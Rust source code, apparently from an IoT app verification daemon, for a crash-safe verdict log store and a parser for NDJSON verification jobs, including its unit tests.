//! └───────────────────────────────────────────────────────────────────────┘
//! ```
//!
//! Replay on [`VerdictStore::open`] applies records in order (last write
//! wins, tombstones delete); a truncated or corrupted *tail* — the half
//! record a crash mid-append leaves behind — fails its CRC or bounds check
//! and is explicitly **skipped and truncated away** ([`Recovery::CorruptTail`]),
//! never decoded into a verdict.  The header folds
//! [`iotsan::analysis::ANALYSIS_VERSION`]: a log written under different
//! slicing/analysis semantics is discarded wholesale on open
//! ([`Recovery::Discarded`]), so stale analysis never replays.
//! [`VerdictStore::compact`] rewrites the log without superseded or evicted
//! records, atomically (write-temp + rename) and idempotently.

use crate::codec::{crc32, decode_group_result, encode_group_result};
use crate::fault::{RealIo, StoreIo};
use iotsan::{Fingerprint, GroupResult};
use iotsan_telemetry::flight::{self, EventCode, Level};
use iotsan_telemetry::METRICS;
use std::collections::{BTreeMap, VecDeque};
use std::fs::{self, File, OpenOptions};
use std::io;
use std::path::{Path, PathBuf};

/// The 8-byte magic prefix of a verdict log.
pub const MAGIC: [u8; 8] = *b"IOTSANVS";

/// The on-disk format version this build reads and writes.
pub const FORMAT_VERSION: u32 = 1;

const HEADER_LEN: usize = 16;
const RECORD_HEAD_LEN: usize = 1 + 8 + 4; // tag + fingerprint + payload length
const TAG_PUT: u8 = 1;
const TAG_EVICT: u8 = 2;

/// What [`VerdictStore::open`] found on disk.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Recovery {
    /// No log existed (or it was empty); a fresh one was created.
    Fresh,
    /// Every record replayed cleanly.
    Clean {
        /// Number of records replayed.
        records: usize,
    },
    /// The log's tail was truncated or corrupted — the surviving prefix
    /// replayed cleanly and the broken tail was *skipped* (and truncated
    /// off so future appends start from a sound offset), never decoded.
    CorruptTail {
        /// Number of records that replayed cleanly before the broken tail.
        records: usize,
        /// Bytes of broken tail dropped.
        dropped_bytes: u64,
    },
    /// The whole log was discarded (and recreated fresh) because its header
    /// did not match this build.
    Discarded {
        /// Why the log could not be trusted.
        reason: DiscardReason,
    },
}

/// Why an existing log was discarded on open.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum DiscardReason {
    /// Too short, or the magic bytes did not match.
    BadHeader,
    /// Written by a different on-disk format version.
    StoreFormat {
        /// The version found in the header.
        found: u32,
    },
    /// Written under a different [`iotsan::analysis::ANALYSIS_VERSION`]:
    /// sliced verdicts computed by older analysis semantics must never
    /// replay as current ones.
    AnalysisVersion {
        /// The analysis version found in the header.
        found: u32,
    },
}

/// Tuning knobs for a [`VerdictStore`]; the defaults keep everything and
/// never compact on their own.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct StoreOptions {
    /// Capacity cap: when set, appending beyond `max_entries` live verdicts
    /// evicts the oldest (least recently written) entries with tombstones.
    /// `None` (default) keeps everything.
    pub max_entries: Option<usize>,
    /// Auto-compaction threshold: when set, any append or evict that leaves
    /// at least this many dead records (superseded puts + tombstones and
    /// their targets) in the log triggers [`VerdictStore::compact`]
    /// automatically.  `None` (default) compacts only on explicit request.
    pub compact_after_dead: Option<usize>,
}

/// What a [`VerdictStore::compact`] pass accomplished.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct CompactStats {
    /// Records in the log before compaction.
    pub records_before: usize,
    /// Records after (one per live verdict).
    pub records_after: usize,
    /// Log size in bytes before compaction.
    pub bytes_before: u64,
    /// Log size in bytes after.
    pub bytes_after: u64,
}

/// A durable, fingerprint-keyed store of group verdicts over an append-only
/// CRC-guarded log (see the module docs for the record format).
///
/// The full contents are materialized in memory on open — the store is an
/// *index plus journal*, not a paging database — so `get` is a map lookup
/// and every mutation is one appended record.
#[derive(Debug)]
pub struct VerdictStore {
    path: PathBuf,
    file: File,
    entries: BTreeMap<Fingerprint, GroupResult>,
    /// Live keys in (re)insertion order — the FIFO eviction queue and the
    /// deterministic record order compaction writes.
    order: VecDeque<Fingerprint>,
    /// Records currently in the log file (live + dead).
    records: usize,
    recovery: Recovery,
    options: StoreOptions,
    /// The disk seam every steady-state mutation goes through (see
    /// [`StoreIo`]); [`RealIo`] in production, a fault injector in tests
    /// and the chaos harness.
    io: Box<dyn StoreIo>,
    /// Byte offset of the last fully acknowledged record: everything below
    /// it replays.  A failed append truncates back to it so torn bytes
    /// never sit between acknowledged records.
    sound_len: u64,
    /// Set when a failed append could not be truncated away: the log's
    /// tail is untrusted, so further appends fail fast rather than land
    /// after a tear.  [`VerdictStore::reopen`] or a successful
    /// [`VerdictStore::compact`] clears it.
    broken: bool,
}

/// What recovery loads from disk — shared by open and [`VerdictStore::reopen`].
struct Loaded {
    file: File,
    entries: BTreeMap<Fingerprint, GroupResult>,
    order: VecDeque<Fingerprint>,
    records: usize,
    recovery: Recovery,
    sound_len: u64,
}

fn header_bytes() -> [u8; HEADER_LEN] {
    let mut header = [0u8; HEADER_LEN];
    header[..8].copy_from_slice(&MAGIC);
    header[8..12].copy_from_slice(&FORMAT_VERSION.to_le_bytes());
    header[12..16].copy_from_slice(&iotsan::analysis::ANALYSIS_VERSION.to_le_bytes());
    header
}

/// Flushes one recovery outcome to the telemetry registry and flight
/// recorder (shared by open and [`VerdictStore::reopen`]).  A fresh store
/// replayed nothing, so it records nothing.
fn record_recovery(recovery: &Recovery) {
    match recovery {
        Recovery::Fresh => {}
        Recovery::Clean { records } => {
            METRICS.store_recoveries.inc();
            flight::record(
                Level::Info,
                EventCode::StoreRecover,
                &format!("clean replay of {records} record(s)"),
            );
        }
        Recovery::CorruptTail { records, dropped_bytes } => {
            METRICS.store_recoveries.inc();
            METRICS.store_corrupt_tails.inc();
            flight::record(
                Level::Warn,
                EventCode::StoreRecover,
                &format!(
                    "corrupt tail: {records} record(s) replayed, {dropped_bytes} trailing \
                     byte(s) truncated"
                ),
            );
        }
        Recovery::Discarded { reason } => {
            METRICS.store_recoveries.inc();
            METRICS.store_corrupt_tails.inc();
            flight::record(
                Level::Warn,
                EventCode::StoreRecover,
                &format!("log discarded and restarted: {reason:?}"),
            );
        }
    }
}

/// One successfully parsed record: bytes consumed plus its meaning.
enum Record {
    Put(Fingerprint, GroupResult),
    Evict(Fingerprint),
}

/// Parses the record starting at `bytes[0]`; any shortfall, bad tag, CRC
/// mismatch or undecodable payload is `None` (an untrusted tail).
fn parse_record(bytes: &[u8]) -> Option<(usize, Record)> {
    if bytes.len() < RECORD_HEAD_LEN {
        return None;
    }
    let tag = bytes[0];
    if tag != TAG_PUT && tag != TAG_EVICT {
        return None;
    }
    let fingerprint = Fingerprint(u64::from_le_bytes(bytes[1..9].try_into().expect("8 bytes")));
    let len = u32::from_le_bytes(bytes[9..13].try_into().expect("4 bytes")) as usize;
    if tag == TAG_EVICT && len != 0 {
        return None;
    }
    let body_end = RECORD_HEAD_LEN.checked_add(len)?;
    let total = body_end.checked_add(4)?;
    if bytes.len() < total {
        return None;
    }
    let stored_crc = u32::from_le_bytes(bytes[body_end..total].try_into().expect("4 bytes"));
    if crc32(&bytes[..body_end]) != stored_crc {
        return None;
    }
    let record = match tag {
        TAG_PUT => {
            let result = decode_group_result(&bytes[RECORD_HEAD_LEN..body_end]).ok()?;
            Record::Put(fingerprint, result)
        }
        _ => Record::Evict(fingerprint),
    };
    Some((total, record))
}

fn record_bytes(tag: u8, fingerprint: Fingerprint, payload: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(RECORD_HEAD_LEN + payload.len() + 4);
    out.push(tag);
    out.extend_from_slice(&fingerprint.0.to_le_bytes());
    out.extend_from_slice(&(payload.len() as u32).to_le_bytes());
    out.extend_from_slice(payload);
    let crc = crc32(&out);
    out.extend_from_slice(&crc.to_le_bytes());
    out
}

impl VerdictStore {
    /// Opens (or creates) the verdict log at `path` with default
    /// [`StoreOptions`], replaying every trustworthy record.
    ///
    /// ```
    /// use iotsan_daemon::store::{Recovery, VerdictStore};
    ///
    /// let dir = std::env::temp_dir().join("iotsan-store-doc-open");
    /// std::fs::create_dir_all(&dir).unwrap();
    /// let path = dir.join("verdicts.log");
    /// # let _ = std::fs::remove_file(&path);
    ///
    /// // First open creates a fresh log...
    /// let store = VerdictStore::open(&path).unwrap();
    /// assert_eq!(*store.recovery(), Recovery::Fresh);
    /// assert!(store.is_empty());
    /// drop(store);
    ///
    /// // ...and a reopen replays it (cleanly, when nothing was torn).
    /// let reopened = VerdictStore::open(&path).unwrap();
    /// assert_eq!(*reopened.recovery(), Recovery::Clean { records: 0 });
    /// # std::fs::remove_file(&path).unwrap();
    /// ```
    pub fn open(path: impl AsRef<Path>) -> io::Result<Self> {
        Self::open_with(path, StoreOptions::default())
    }

    /// [`VerdictStore::open`] with explicit capacity/compaction knobs.
    pub fn open_with(path: impl AsRef<Path>, options: StoreOptions) -> io::Result<Self> {
        Self::open_with_io(path, options, Box::new(RealIo))
    }

    /// [`VerdictStore::open_with`] over an explicit [`StoreIo`] seam —
    /// how tests and the chaos harness substitute a
    /// [`crate::fault::FaultyIo`] for the real disk.
    pub fn open_with_io(
        path: impl AsRef<Path>,
        options: StoreOptions,
        io: Box<dyn StoreIo>,
    ) -> io::Result<Self> {
        let path = path.as_ref().to_path_buf();
        let mut io = io;
        let loaded = Self::load(&path, io.as_mut())?;
        record_recovery(&loaded.recovery);
        Ok(VerdictStore {
            path,
            file: loaded.file,
            entries: loaded.entries,
            order: loaded.order,
            records: loaded.records,
            recovery: loaded.recovery,
            options,
            io,
            sound_len: loaded.sound_len,
            broken: false,
        })
    }

    /// Replays the log at `path`.  Recovery's own repairs (header rewrite,
    /// tail truncation) go straight to the filesystem — the faultable
    /// surface is steady-state mutation, not crash repair (see [`StoreIo`]).
    fn load(path: &Path, io: &mut dyn StoreIo) -> io::Result<Loaded> {
        let bytes = match io.read(path) {
            Ok(bytes) => bytes,
            Err(e) if e.kind() == io::ErrorKind::NotFound => Vec::new(),
            Err(e) => return Err(e),
        };

        let mut entries = BTreeMap::new();
        let mut order = VecDeque::new();
        let mut records = 0usize;
        let mut sound_len = HEADER_LEN as u64;

        let recovery = if bytes.is_empty() {
            fs::write(path, header_bytes())?;
            Recovery::Fresh
        } else if bytes.len() < HEADER_LEN || bytes[..8] != MAGIC {
            fs::write(path, header_bytes())?;
            Recovery::Discarded { reason: DiscardReason::BadHeader }
        } else {
            let format = u32::from_le_bytes(bytes[8..12].try_into().expect("4 bytes"));
            let analysis = u32::from_le_bytes(bytes[12..16].try_into().expect("4 bytes"));
            if format != FORMAT_VERSION {
                fs::write(path, header_bytes())?;
                Recovery::Discarded { reason: DiscardReason::StoreFormat { found: format } }
            } else if analysis != iotsan::analysis::ANALYSIS_VERSION {
                fs::write(path, header_bytes())?;
                Recovery::Discarded { reason: DiscardReason::AnalysisVersion { found: analysis } }
            } else {
                // Replay until the log ends or a record stops being
                // trustworthy; everything after the first broken byte is an
                // untrusted tail.
                let mut pos = HEADER_LEN;
                loop {
                    if pos == bytes.len() {
                        sound_len = pos as u64;
                        break Recovery::Clean { records };
                    }
                    match parse_record(&bytes[pos..]) {
                        Some((consumed, record)) => {
                            match record {
                                Record::Put(fingerprint, result) => {
                                    if entries.insert(fingerprint, result).is_some() {
                                        order.retain(|f| *f != fingerprint);
                                    }
                                    order.push_back(fingerprint);
                                }
                                Record::Evict(fingerprint) => {
                                    entries.remove(&fingerprint);
                                    order.retain(|f| *f != fingerprint);
                                }
                            }
                            records += 1;
                            pos += consumed;
                        }
                        None => {
                            let dropped_bytes = (bytes.len() - pos) as u64;
                            let keep = OpenOptions::new().write(true).open(path)?;
                            keep.set_len(pos as u64)?;
                            keep.sync_all()?;
                            sound_len = pos as u64;
                            break Recovery::CorruptTail { records, dropped_bytes };
                        }
                    }
                }
            }
        };

        let file = OpenOptions::new().append(true).open(path)?;
        Ok(Loaded { file, entries, order, records, recovery, sound_len })
    }

    /// Re-runs recovery over the same path, options and [`StoreIo`] —
    /// the degraded daemon's repair probe.  On success the in-memory index
    /// is rebuilt from what actually survived on disk (so the store and
    /// the log can never disagree after a failed append) and the broken
    /// flag clears; on failure the store is left exactly as it was.
    pub fn reopen(&mut self) -> io::Result<&Recovery> {
        let loaded = Self::load(&self.path, self.io.as_mut())?;
        record_recovery(&loaded.recovery);
        self.file = loaded.file;
        self.entries = loaded.entries;
        self.order = loaded.order;
        self.records = loaded.records;
        self.recovery = loaded.recovery;
        self.sound_len = loaded.sound_len;
        self.broken = false;
        Ok(&self.recovery)
    }

    /// Appends (or replaces) the verdict for `fingerprint`, applying the
    /// [`StoreOptions`] capacity and auto-compaction knobs afterwards.
    ///
    /// The record hits the OS immediately (`write_all`); call
    /// [`VerdictStore::sync`] to force it to physical storage at batch
    /// boundaries.
    ///
    /// ```
    /// use iotsan::{Fingerprint, GroupResult};
    /// use iotsan_daemon::store::VerdictStore;
    ///
    /// let dir = std::env::temp_dir().join("iotsan-store-doc-append");
    /// std::fs::create_dir_all(&dir).unwrap();
    /// let path = dir.join("verdicts.log");
    /// # let _ = std::fs::remove_file(&path);
    ///
    /// let verdict = GroupResult { apps: vec!["Unlock Door".into()], report: Default::default() };
    /// let mut store = VerdictStore::open(&path).unwrap();
    /// store.append(Fingerprint(0xfeed), &verdict).unwrap();
    /// drop(store);
    ///
    /// // The verdict survives a restart, byte-identically.
    /// let reopened = VerdictStore::open(&path).unwrap();
    /// assert_eq!(reopened.get(Fingerprint(0xfeed)), Some(&verdict));
    /// # std::fs::remove_file(&path).unwrap();
    /// ```
    pub fn append(&mut self, fingerprint: Fingerprint, result: &GroupResult) -> io::Result<()> {
        let mut payload = Vec::new();
        encode_group_result(result, &mut payload);
        self.write_record(&record_bytes(TAG_PUT, fingerprint, &payload))?;
        if self.entries.insert(fingerprint, result.clone()).is_some() {
            self.order.retain(|f| *f != fingerprint);
        }
        self.order.push_back(fingerprint);

        if let Some(max) = self.options.max_entries {
            while self.entries.len() > max {
                let oldest = *self.order.front().expect("entries is non-empty");
                self.write_evict(oldest)?;
            }
        }
        self.maybe_auto_compact()
    }

    /// Appends one encoded record, keeping the log sound whatever happens:
    /// on success the acknowledged offset advances; on failure any torn
    /// bytes are truncated back off, and if even that repair fails the
    /// store marks itself [`VerdictStore::is_broken`] so no later append
    /// can land after an untrusted tail.
    fn write_record(&mut self, bytes: &[u8]) -> io::Result<()> {
        if self.broken {
            return Err(io::Error::other(
                "verdict log has an unrepaired torn tail; reopen or compact to recover",
            ));
        }
        match self.io.append(&mut self.file, bytes) {
            Ok(()) => {
                self.sound_len += bytes.len() as u64;
                self.records += 1;
                METRICS.store_appends.inc();
                flight::record(
                    Level::Debug,
                    EventCode::StoreAppend,
                    &format!("{} byte(s), log now {} record(s)", bytes.len(), self.records),
                );
                Ok(())
            }
            Err(e) => {
                if self.file.set_len(self.sound_len).is_err() {
                    self.broken = true;
                }
                Err(e)
            }
        }
    }

    /// Writes a tombstone for `fingerprint` (when live), dropping it from
    /// the store; returns whether anything was evicted.
    pub fn evict(&mut self, fingerprint: Fingerprint) -> io::Result<bool> {
        if !self.entries.contains_key(&fingerprint) {
            return Ok(false);
        }
        self.write_evict(fingerprint)?;
        self.maybe_auto_compact()?;
        Ok(true)
    }

    fn write_evict(&mut self, fingerprint: Fingerprint) -> io::Result<()> {
        self.write_record(&record_bytes(TAG_EVICT, fingerprint, &[]))?;
        self.entries.remove(&fingerprint);
        self.order.retain(|f| *f != fingerprint);
        Ok(())
    }

    fn maybe_auto_compact(&mut self) -> io::Result<()> {
        if let Some(threshold) = self.options.compact_after_dead {
            if self.dead_records() >= threshold.max(1) {
                self.compact()?;
            }
        }
        Ok(())
    }

    /// Rewrites the log with exactly one record per live verdict (in
    /// insertion order), dropping superseded puts and tombstones.  Atomic
    /// (temp file + rename) and idempotent: compacting an already-compact
    /// log rewrites the identical bytes.
    ///
    /// ```
    /// use iotsan::{Fingerprint, GroupResult};
    /// use iotsan_daemon::store::VerdictStore;
    ///
    /// let dir = std::env::temp_dir().join("iotsan-store-doc-compact");
    /// std::fs::create_dir_all(&dir).unwrap();
    /// let path = dir.join("verdicts.log");
    /// # let _ = std::fs::remove_file(&path);
    ///
    /// let old = GroupResult { apps: vec!["v1".into()], report: Default::default() };
    /// let new = GroupResult { apps: vec!["v2".into()], report: Default::default() };
    /// let mut store = VerdictStore::open(&path).unwrap();
    /// store.append(Fingerprint(7), &old).unwrap();
    /// store.append(Fingerprint(7), &new).unwrap(); // supersedes: 1 dead record
    /// assert_eq!((store.records(), store.dead_records()), (2, 1));
    ///
    /// let stats = store.compact().unwrap();
    /// assert_eq!((stats.records_before, stats.records_after), (2, 1));
    /// assert_eq!(store.get(Fingerprint(7)), Some(&new)); // last write won
    /// # std::fs::remove_file(&path).unwrap();
    /// ```
    pub fn compact(&mut self) -> io::Result<CompactStats> {
        let bytes_before = fs::metadata(&self.path)?.len();
        let records_before = self.records;

        let mut out = Vec::new();
        out.extend_from_slice(&header_bytes());
        let mut payload = Vec::new();
        for fingerprint in &self.order {
            let result = &self.entries[fingerprint];
            payload.clear();
            encode_group_result(result, &mut payload);
            out.extend_from_slice(&record_bytes(TAG_PUT, *fingerprint, &payload));
        }

        // All-or-nothing: a failure at any step leaves the live log
        // untouched (the temp file is removed, never half-renamed), so a
        // failed compaction degrades nothing.
        let tmp = self.path.with_extension("compact-tmp");
        let staged = self
            .io
            .write(&tmp, &out)
            .and_then(|()| self.io.fsync(&File::open(&tmp)?))
            .and_then(|()| self.io.rename(&tmp, &self.path));
        if let Err(e) = staged {
            let _ = fs::remove_file(&tmp);
            return Err(e);
        }
        self.file = OpenOptions::new().append(true).open(&self.path)?;
        self.records = self.entries.len();
        self.sound_len = out.len() as u64;
        // The rewrite came entirely from the in-memory index, so any
        // previously unrepaired tail is gone with the old file.
        self.broken = false;

        METRICS.store_compactions.inc();
        flight::record(
            Level::Info,
            EventCode::StoreCompact,
            &format!(
                "{} -> {} record(s), {} -> {} byte(s)",
                records_before,
                self.records,
                bytes_before,
                out.len()
            ),
        );

        Ok(CompactStats {
            records_before,
            records_after: self.records,
            bytes_before,
            bytes_after: out.len() as u64,
        })
    }

    /// Forces every appended record to physical storage (fsync).
    pub fn sync(&mut self) -> io::Result<()> {
        self.io.fsync(&self.file)
    }

    /// True when a failed append could not be repaired in place: appends
    /// fail fast until [`VerdictStore::reopen`] or
    /// [`VerdictStore::compact`] restores a sound tail.
    pub fn is_broken(&self) -> bool {
        self.broken
    }

    /// The verdict stored for `fingerprint`, if any.
    pub fn get(&self, fingerprint: Fingerprint) -> Option<&GroupResult> {
        self.entries.get(&fingerprint)
    }

    /// True when a verdict is stored for `fingerprint`.
    pub fn contains(&self, fingerprint: Fingerprint) -> bool {
        self.entries.contains_key(&fingerprint)
    }

    /// Number of live verdicts.
    pub fn len(&self) -> usize {
        self.entries.len()
    }

    /// True when no verdicts are stored.
    pub fn is_empty(&self) -> bool {
        self.entries.is_empty()
    }

    /// Records currently in the log file, live and dead.
    pub fn records(&self) -> usize {
        self.records
    }

    /// Dead records in the log (superseded puts plus tombstones and their
    /// targets) — what [`VerdictStore::compact`] reclaims.
    pub fn dead_records(&self) -> usize {
        self.records - self.entries.len()
    }

    /// What [`VerdictStore::open`] found on disk.
    pub fn recovery(&self) -> &Recovery {
        &self.recovery
    }

    /// The log's path.
    pub fn path(&self) -> &Path {
        &self.path
    }

    /// Current size of the log file in bytes.
    pub fn file_bytes(&self) -> io::Result<u64> {
        Ok(fs::metadata(&self.path)?.len())
    }

    /// The live fingerprints in insertion order (oldest first).
    pub fn fingerprints(&self) -> impl Iterator<Item = Fingerprint> + '_ {
        self.order.iter().copied()
    }
}
