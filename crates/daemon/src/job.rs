//! The batch-ingest job format: newline-delimited JSON.
//!
//! An app store submits verification work as NDJSON — one self-contained
//! JSON object per line, the shape every log shipper and queue speaks.  Each
//! line names a *(bundle, household configuration)* job:
//!
//! ```text
//! {"id":"batch-1","market":8,"events":3,"failures":true}
//! {"id":"batch-2","names":["Auto Mode Change","Unlock Door"],"events":2}
//! {"sources":["definition(name: \"My App\", ...) ..."],"timeout_ms":60000}
//! {"op":"shutdown"}
//! ```
//!
//! Exactly one of `market` (the first *n* corpus apps), `names` (corpus apps
//! by name) or `sources` (inline Groovy) selects the bundle; the household
//! device configuration is the standard expert configuration over the
//! selected bundle, matching the paper's Table 5 setup.  Unknown keys are
//! rejected, not ignored — a typo'd `event` must not silently verify with
//! the default bound.  Control lines carry an `op` instead of a bundle:
//! `shutdown` stops the daemon, `metrics` answers with a telemetry
//! snapshot row, `flight` with the flight recorder's retained events.
//! See `OPERATIONS.md` for the operator-facing reference of every field.

use serde_json::Value;

/// Which apps a job verifies.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum BundleSpec {
    /// The first `n` apps of the built-in market corpus
    /// ([`iotsan_apps::market::market_apps`]).
    Market(usize),
    /// Market-corpus apps selected by display name
    /// ([`iotsan_apps::market::named_apps`]).
    Named(Vec<String>),
    /// Inline SmartThings Groovy sources.
    Sources(Vec<String>),
}

/// One parsed verification job.
#[derive(Debug, Clone, PartialEq)]
pub struct JobSpec {
    /// Caller-chosen correlation id (defaults to `job-<line number>`).
    pub id: String,
    /// The apps to verify.
    pub bundle: BundleSpec,
    /// External-event bound (`SearchConfig::max_depth`); default 2.
    pub events: usize,
    /// Checker workers for this job's searches; default 1 (sequential).
    pub workers: usize,
    /// Exhaustive device/communication failure injection; default off.
    pub failures: bool,
    /// Per-job wall-clock budget in milliseconds; default none.
    pub timeout_ms: Option<u64>,
    /// Testing hook: panic mid-verification (only honored when the daemon
    /// was started with fault injection enabled); default off.
    pub inject_panic: bool,
}

impl JobSpec {
    /// A stable content fingerprint of *what* the job verifies — every
    /// field except the caller-chosen `id` — used to key retry counts and
    /// the poison quarantine so duplicates of a failing job are recognized
    /// across submissions (and across restarts, via the quarantine
    /// sidecar).  FNV-1a over a canonical rendering: deterministic across
    /// processes, unlike `std`'s randomized hashers.
    pub fn fingerprint(&self) -> u64 {
        let mut hash = 0xcbf2_9ce4_8422_2325u64;
        let mut eat = |bytes: &[u8]| {
            for b in bytes {
                hash ^= u64::from(*b);
                hash = hash.wrapping_mul(0x0000_0100_0000_01B3);
            }
            hash ^= 0xff; // field separator, so ["ab","c"] != ["a","bc"]
            hash = hash.wrapping_mul(0x0000_0100_0000_01B3);
        };
        match &self.bundle {
            BundleSpec::Market(n) => {
                eat(b"market");
                eat(&(*n as u64).to_le_bytes());
            }
            BundleSpec::Named(names) => {
                eat(b"named");
                for name in names {
                    eat(name.as_bytes());
                }
            }
            BundleSpec::Sources(sources) => {
                eat(b"sources");
                for source in sources {
                    eat(source.as_bytes());
                }
            }
        }
        eat(&(self.events as u64).to_le_bytes());
        eat(&(self.workers as u64).to_le_bytes());
        eat(&[u8::from(self.failures), u8::from(self.inject_panic)]);
        eat(&self.timeout_ms.unwrap_or(u64::MAX).to_le_bytes());
        hash
    }
}

/// One parsed NDJSON line: a job, or a control operation.
#[derive(Debug, Clone, PartialEq)]
pub enum JobLine {
    /// A verification job.
    Job(JobSpec),
    /// `{"op":"shutdown"}` — stop accepting work and exit.
    Shutdown,
    /// `{"op":"metrics"}` — respond with a metrics snapshot (one JSON row
    /// of every registered counter, gauge and histogram).
    Metrics,
    /// `{"op":"flight"}` — respond with the flight recorder's retained
    /// events.
    Flight,
}

const KNOWN_KEYS: &[&str] = &[
    "id",
    "market",
    "names",
    "sources",
    "events",
    "workers",
    "failures",
    "timeout_ms",
    "inject_panic",
    "op",
];

fn non_negative_integer(value: &Value, key: &str) -> Result<usize, String> {
    let n = value.as_f64().ok_or_else(|| format!("`{key}` must be a number"))?;
    if n < 0.0 || n.fract() != 0.0 || n > u32::MAX as f64 {
        return Err(format!("`{key}` must be a non-negative integer, got {n}"));
    }
    Ok(n as usize)
}

fn string_array(value: &Value, key: &str) -> Result<Vec<String>, String> {
    let items = value.as_array().ok_or_else(|| format!("`{key}` must be an array of strings"))?;
    items
        .iter()
        .map(|v| {
            v.as_str()
                .map(str::to_string)
                .ok_or_else(|| format!("`{key}` must contain only strings"))
        })
        .collect()
}

/// Parses one NDJSON line (1-based `line_number` is used for the default job
/// id and error messages).  Blank lines are the caller's to skip.
pub fn parse_line(line: &str, line_number: usize) -> Result<JobLine, String> {
    let value: Value =
        serde_json::from_str(line).map_err(|e| format!("line {line_number}: {e}"))?;
    let entries = value
        .as_object()
        .ok_or_else(|| format!("line {line_number}: a job must be a JSON object"))?;

    for (key, _) in entries {
        if !KNOWN_KEYS.contains(&key.as_str()) {
            return Err(format!(
                "line {line_number}: unknown key `{key}` (known: {})",
                KNOWN_KEYS.join(", ")
            ));
        }
    }

    if let Some(op) = value.get("op") {
        let op = op.as_str().ok_or_else(|| format!("line {line_number}: `op` must be a string"))?;
        return match op {
            "shutdown" => Ok(JobLine::Shutdown),
            "metrics" => Ok(JobLine::Metrics),
            "flight" => Ok(JobLine::Flight),
            other => Err(format!("line {line_number}: unknown op `{other}`")),
        };
    }

    let id = match value.get("id") {
        Some(v) => v
            .as_str()
            .ok_or_else(|| format!("line {line_number}: `id` must be a string"))?
            .to_string(),
        None => format!("job-{line_number}"),
    };

    let mut bundles = Vec::new();
    if let Some(v) = value.get("market") {
        let n =
            non_negative_integer(v, "market").map_err(|e| format!("line {line_number}: {e}"))?;
        if n == 0 {
            return Err(format!("line {line_number}: `market` must select at least one app"));
        }
        bundles.push(BundleSpec::Market(n));
    }
    if let Some(v) = value.get("names") {
        let names = string_array(v, "names").map_err(|e| format!("line {line_number}: {e}"))?;
        if names.is_empty() {
            return Err(format!("line {line_number}: `names` must not be empty"));
        }
        bundles.push(BundleSpec::Named(names));
    }
    if let Some(v) = value.get("sources") {
        let sources = string_array(v, "sources").map_err(|e| format!("line {line_number}: {e}"))?;
        if sources.is_empty() {
            return Err(format!("line {line_number}: `sources` must not be empty"));
        }
        bundles.push(BundleSpec::Sources(sources));
    }
    let bundle = match bundles.len() {
        1 => bundles.pop().expect("one bundle"),
        0 => {
            return Err(format!(
                "line {line_number}: a job needs exactly one of `market`, `names` or `sources`"
            ))
        }
        _ => {
            return Err(format!(
                "line {line_number}: `market`, `names` and `sources` are mutually exclusive"
            ))
        }
    };

    let events = match value.get("events") {
        Some(v) => {
            let n = non_negative_integer(v, "events")
                .map_err(|e| format!("line {line_number}: {e}"))?;
            if n == 0 {
                return Err(format!("line {line_number}: `events` must be at least 1"));
            }
            n
        }
        None => 2,
    };
    let workers = match value.get("workers") {
        Some(v) => non_negative_integer(v, "workers")
            .map_err(|e| format!("line {line_number}: {e}"))?
            .max(1),
        None => 1,
    };
    let failures = match value.get("failures") {
        Some(v) => v
            .as_bool()
            .ok_or_else(|| format!("line {line_number}: `failures` must be a boolean"))?,
        None => false,
    };
    let timeout_ms = match value.get("timeout_ms") {
        Some(v) => Some(
            non_negative_integer(v, "timeout_ms").map_err(|e| format!("line {line_number}: {e}"))?
                as u64,
        ),
        None => None,
    };
    let inject_panic = match value.get("inject_panic") {
        Some(v) => v
            .as_bool()
            .ok_or_else(|| format!("line {line_number}: `inject_panic` must be a boolean"))?,
        None => false,
    };

    Ok(JobLine::Job(JobSpec { id, bundle, events, workers, failures, timeout_ms, inject_panic }))
}

/// Resolves a bundle spec to concrete Groovy sources (market lookups may
/// fail on out-of-range sizes or unknown names).
pub fn resolve_sources(bundle: &BundleSpec) -> Result<Vec<String>, String> {
    match bundle {
        BundleSpec::Market(n) => {
            let corpus = iotsan_apps::market::market_apps();
            if *n > corpus.len() {
                return Err(format!(
                    "`market` selects {n} apps but the corpus has {}",
                    corpus.len()
                ));
            }
            Ok(corpus.into_iter().take(*n).map(|a| a.source).collect())
        }
        BundleSpec::Named(names) => {
            let corpus = iotsan_apps::market::named_apps();
            names
                .iter()
                .map(|name| {
                    corpus
                        .iter()
                        .find(|a| a.name == *name)
                        .map(|a| a.source.clone())
                        .ok_or_else(|| format!("unknown market app `{name}`"))
                })
                .collect()
        }
        BundleSpec::Sources(sources) => Ok(sources.clone()),
    }
}

/// Escapes `s` for embedding in a JSON string literal.
pub(crate) fn json_escape(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if (c as u32) < 0x20 => out.push_str(&format!("\\u{:04x}", c as u32)),
            c => out.push(c),
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn parses_a_market_job_with_defaults() {
        let line = r#"{"market": 8}"#;
        let JobLine::Job(spec) = parse_line(line, 3).unwrap() else { panic!("job expected") };
        assert_eq!(spec.id, "job-3");
        assert_eq!(spec.bundle, BundleSpec::Market(8));
        assert_eq!(
            (spec.events, spec.workers, spec.failures, spec.timeout_ms),
            (2, 1, false, None)
        );
    }

    #[test]
    fn parses_every_field() {
        let line = r#"{"id":"x","names":["Unlock Door"],"events":3,"workers":4,"failures":true,"timeout_ms":500}"#;
        let JobLine::Job(spec) = parse_line(line, 1).unwrap() else { panic!("job expected") };
        assert_eq!(spec.id, "x");
        assert_eq!(spec.bundle, BundleSpec::Named(vec!["Unlock Door".into()]));
        assert_eq!(
            (spec.events, spec.workers, spec.failures, spec.timeout_ms),
            (3, 4, true, Some(500))
        );
    }

    #[test]
    fn parses_control_ops() {
        assert_eq!(parse_line(r#"{"op":"shutdown"}"#, 9).unwrap(), JobLine::Shutdown);
        assert_eq!(parse_line(r#"{"op":"metrics"}"#, 1).unwrap(), JobLine::Metrics);
        assert_eq!(parse_line(r#"{"op":"flight"}"#, 2).unwrap(), JobLine::Flight);
    }

    #[test]
    fn rejects_unknown_keys_and_malformed_lines() {
        assert!(parse_line(r#"{"market":8,"event":3}"#, 1).unwrap_err().contains("unknown key"));
